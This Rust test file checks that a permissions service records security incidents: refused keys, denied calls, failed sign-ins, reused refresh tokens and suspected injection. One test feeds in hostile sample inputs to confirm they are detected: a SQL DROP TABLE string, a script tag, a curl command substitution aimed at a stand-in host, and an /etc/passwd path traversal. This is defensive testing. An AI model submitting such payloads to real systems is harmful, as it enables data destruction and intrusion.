//! What the service sees by itself: bad credentials, refused calls, failed sign-ins, text that looks like an attack.

use super::list;
use crate::{
    sessions,
    world::{Caller, World, assert_refused, in_seconds, on_both_engines, uuid},
};
use pb::IncidentKind::{
    CallRefused, CredentialRefused, InjectionSuspected, RefreshTokenReused, SignInFailed,
};
use proto::{
    common::v1::{Role, Scope},
    permissions::v1 as pb,
};
use tonic::{Code, Request};

const ELSEWHERE: &str = "203.0.113.50";

/// A request that comes from this address.
fn from<T>(address: &str, message: T) -> Request<T> {
    let mut request = Request::new(message);
    request.metadata_mut().insert("x-forwarded-for", address.parse().unwrap());
    request
}

fn keys() -> pb::ListKeysRequest {
    pb::ListKeysRequest::default()
}

async fn seen(world: &World, kind: pb::IncidentKind) -> Vec<pb::Incident> {
    list(world, pb::ListIncidentsRequest { kind: kind.into(), ..Default::default() }).await
}

async fn limited(caller: &Caller, scopes: Vec<i32>, networks: Vec<String>) -> String {
    let request = pb::CreateKeyRequest { name: "limited".to_owned(), scopes, networks, ..Default::default() };
    caller.keys().create_key(request).await.unwrap().into_inner().secret
}

fn facts(incidents: &[pb::Incident]) -> Vec<(&str, &str, i64)> {
    let mut facts: Vec<_> =
        incidents.iter().map(|one| (one.detail.as_str(), one.address.as_str(), one.count)).collect();
    facts.sort_unstable();
    facts
}

on_both_engines! {
    async fn bad_credentials_are_seen_with_their_reason_and_address(world: World) {
        let member = world.user(Role::Member).await;
        let revoked = limited(&member, Vec::new(), Vec::new()).await;
        let key = member.keys().list_keys(keys()).await.unwrap().into_inner().keys.pop().unwrap();
        let revoke = pb::RevokeKeyRequest { key_id: key.key_id, ..Default::default() };
        member.keys().revoke_key(revoke).await.unwrap();
        let homely = limited(&member, Vec::new(), vec!["10.0.0.0/8".to_owned()]).await;
        let short = pb::CreateKeyRequest { name: "short".to_owned(), expire_time: Some(in_seconds(3_600)), ..Default::default() };
        let short = member.keys().create_key(short).await.unwrap().into_inner().secret;
        world.with_secret(&homely).keys().list_keys(from("10.1.2.3", keys())).await.unwrap();
        for _ in 0..3 {
            let refused = world.with_secret(&revoked).keys().list_keys(from(ELSEWHERE, keys())).await;
            assert_refused(refused, Code::Unauthenticated, "KEY_REVOKED");
        }
        let refused = world.with_secret(&homely).keys().list_keys(from(ELSEWHERE, keys())).await;
        assert_refused(refused, Code::Unauthenticated, "KEY_NETWORK");
        let refused = world.with_secret(&short[..50]).keys().list_keys(keys()).await;
        assert_refused(refused, Code::Unauthenticated, "KEY_UNKNOWN");
        // Nothing but the absence of a credential is known of who shows none.
        assert_refused(world.nobody().keys().list_keys(keys()).await, Code::Unauthenticated, "CREDENTIAL_MISSING");
        let incidents = seen(world, CredentialRefused).await;
        assert_eq!(facts(&incidents), [("KEY_NETWORK", ELSEWHERE, 1), ("KEY_REVOKED", ELSEWHERE, 3), ("KEY_UNKNOWN", "", 1)]);
        assert!(incidents.iter().all(|one| one.method == "/tollgate.permissions.v1.KeyService/ListKeys" && one.actor.is_empty()));
    }

    async fn refused_calls_are_seen_with_who_made_them(world: World) {
        let member = world.user(Role::Member).await;
        let refused = member.users().list_users(pb::ListUsersRequest::default()).await;
        assert_refused(refused, Code::PermissionDenied, "ROLE_NOT_ALLOWED");
        let reader = world.with_secret(&limited(&member, vec![Scope::Read.into()], Vec::new()).await);
        reader.keys().list_keys(keys()).await.unwrap();
        let create = pb::CreateKeyRequest { name: "more".to_owned(), ..Default::default() };
        assert_refused(reader.keys().create_key(create).await, Code::PermissionDenied, "SCOPE_MISSING");
        let incidents = seen(world, CallRefused).await;
        assert_eq!(facts(&incidents), [("ROLE_NOT_ALLOWED", "", 1), ("SCOPE_MISSING", "", 1)]);
        assert!(incidents.iter().all(|one| one.actor == member.id && !one.key_id.is_empty()));
        let mine = pb::ListIncidentsRequest { actor: member.id.clone(), ..Default::default() };
        assert_eq!(list(world, mine).await.len(), 2);
    }

    async fn failed_sign_ins_and_reused_refresh_tokens_are_seen(world: World) {
        let (_, email) = sessions::user(world, Role::Member).await;
        let wrong = || pb::SignInRequest { email: email.clone(), password: "not it".to_owned() };
        for _ in 0..2 {
            let refused = world.nobody().sessions().sign_in(from(ELSEWHERE, wrong())).await;
            assert_refused(refused, Code::Unauthenticated, "SIGN_IN_REFUSED");
        }
        assert_eq!(facts(&seen(world, SignInFailed).await), [("SIGN_IN_REFUSED", ELSEWHERE, 2)]);
        let tokens = sessions::sign_in(world, &email, sessions::PASSWORD).await;
        let refresh = || pb::RefreshSessionRequest { refresh_token: tokens.refresh_token.clone() };
        world.nobody().sessions().refresh_session(refresh()).await.unwrap();
        let again = world.nobody().sessions().refresh_session(from(ELSEWHERE, refresh())).await;
        assert_refused(again, Code::Unauthenticated, "REFRESH_TOKEN_REUSED");
        assert_eq!(facts(&seen(world, RefreshTokenReused).await), [("REFRESH_TOKEN_REUSED", ELSEWHERE, 1)]);
    }

    async fn suspicious_text_is_seen_and_not_refused(world: World) {
        let group = |name: &str, description: &str, reason: &str| pb::CreateGroupRequest {
            name: name.to_owned(), description: description.to_owned(), reason: reason.to_owned(), ..Default::default()
        };
        for harmless in ["O'Brien's team", "Select all models from the list", "R&D | Sales"] {
            world.owner.groups().create_group(group(harmless, "the team's models; see ../docs", "asked by O'Neil")).await.unwrap();
        }
        assert_eq!(seen(world, InjectionSuspected).await, []);
        let attack = "x'); DROP TABLE users;--";
        world.owner.groups().create_group(group(attack, "<script>alert(1)</script>", "$(curl http://evil.example)")).await.unwrap();
        // What a rule refuses anyway is of interest all the same.
        let model = pb::RegisterModelRequest { name: "../../etc/passwd".to_owned(), ..Default::default() };
        world.owner.models().register_model(model.clone()).await.ok();
        let incidents = seen(world, InjectionSuspected).await;
        let mut details: Vec<_> = incidents.iter().map(|one| one.detail.as_str()).collect();
        details.sort_unstable();
        assert_eq!(details, ["SQL in name", "command in name", "command in reason", "script in description"]);
        assert!(incidents.iter().all(|one| one.actor == world.owner.id && !one.detail.contains("DROP")));
    }
}

#[tokio::test]
async fn uses_of_a_key_are_counted_beside_the_calls_and_raise_no_revision() {
    let world = World::sqlite().await;
    let secret = limited(&world.owner, Vec::new(), Vec::new()).await;
    let revision = async || -> i64 {
        shared::on!(&world.db, |pool| sqlx::query_scalar("SELECT revision FROM head").fetch_one(pool).await)
            .unwrap()
    };
    let (before, holder) = (revision().await, world.with_secret(&secret));
    for _ in 0..3 {
        holder.keys().list_keys(keys()).await.unwrap();
    }
    let listed = async |world: &World| {
        let keys = world.owner.keys().list_keys(keys()).await.unwrap().into_inner().keys;
        keys.into_iter().find(|key| key.name == "limited").unwrap()
    };
    let key = listed(&world).await;
    assert_eq!((key.use_count, key.last_use_time.is_some()), (3, true));
    assert_eq!(revision().await, before);
    // Another process knows of them once this one has written them, which it does at the latest when it ends.
    let (db, id) = (world.db.clone(), key.key_id);
    let other = world.another().await;
    world.end().await;
    let kept: i64 = shared::on!(&db, |pool| {
        sqlx::query_scalar("SELECT uses FROM key_uses WHERE key_id = $1")
            .bind(uuid::Uuid::parse_str(&id).unwrap())
            .fetch_one(pool)
            .await
    })
    .unwrap();
    assert_eq!(kept, 3);
    assert_eq!(listed(&other).await.use_count, 3);
    other.end().await;
}

#[tokio::test]
async fn a_flood_of_bad_keys_is_one_row() {
    let world = World::sqlite().await;
    let stranger = world.with_secret("x");
    for _ in 0..200 {
        assert_refused(stranger.keys().list_keys(keys()).await, Code::Unauthenticated, "KEY_UNKNOWN");
    }
    let incidents = seen(&world, CredentialRefused).await;
    assert_eq!(incidents.iter().map(|one| one.count).sum::<i64>(), 200);
    // One more when a round of the writer fell into it.
    assert!(incidents.len() <= 3, "{}", incidents.len());
    assert_eq!(list(&world, pb::ListIncidentsRequest { actor: uuid(), ..Default::default() }).await, []);
}
